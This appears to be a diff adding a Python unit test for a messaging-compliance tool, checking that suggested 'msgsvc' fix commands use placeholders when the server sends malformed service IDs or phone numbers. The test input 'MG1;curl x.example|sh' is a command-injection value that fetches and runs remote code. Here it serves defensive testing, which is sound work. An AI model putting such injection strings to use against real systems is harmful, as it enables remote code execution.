@@ -80,6 +80,23 @@ def test_a_rejection_says_the_time_left_to_edit_or_that_it_must_be_filed_again()
          "msgsvc tollfree delete +18005550100; msgsvc tollfree create +18005550100 --from-file verification.toml")]
 
 
+def test_a_fix_names_no_service_or_number_the_server_sent_that_is_not_one():
+    hostile = service("MG1;curl x.example|sh")
+    assert lines(ten_dlc(hostile, [LONG], None))[0][3] == "msgsvc campaigns create SERVICE --brand BRAND --usecase USECASE ..."
+    assert lines(ten_dlc(hostile, [LONG], campaign("FAILED")))[0][3] == "msgsvc campaigns update SERVICE ..."
+    assert lines(ten_dlc(hostile, [LONG], campaign("PENDING")))[0][3] == "msgsvc campaigns wait SERVICE"
+    # A line break after the number: a toll-free number still (a $ matches before it), not one to paste.
+    odd = number("PN" + "2" * 32, "+18005550100\n")
+    assert lines(toll_free(SVC, [odd], {}, NOW))[0][3] == "msgsvc tollfree create NUMBER --from-file verification.toml"
+    assert lines(toll_free(SVC, [odd], {odd["sid"]: verification("IN_REVIEW")}, NOW))[0][3] == "msgsvc tollfree wait NUMBER"
+    closed = verification("TWILIO_REJECTED", edit_allowed=False)
+    assert lines(toll_free(SVC, [odd], {odd["sid"]: closed}, NOW))[0][3] == (
+        "msgsvc tollfree delete NUMBER; msgsvc tollfree create NUMBER --from-file verification.toml")
+    editable = verification("TWILIO_REJECTED", edit_allowed=True, edit_expiration="2026-12-08T10:00:00Z")
+    assert lines(toll_free(SVC, [odd], {odd["sid"]: editable}, NOW))[0][3] == (
+        "msgsvc tollfree update NUMBER --from-file verification.toml --edit-reason TEXT")
+
+
 def test_an_approved_verification_passes_30032():
     assert toll_free(SVC, [LONG, FREE], {FREE["sid"]: verification("TWILIO_APPROVED")}, NOW) == []
 
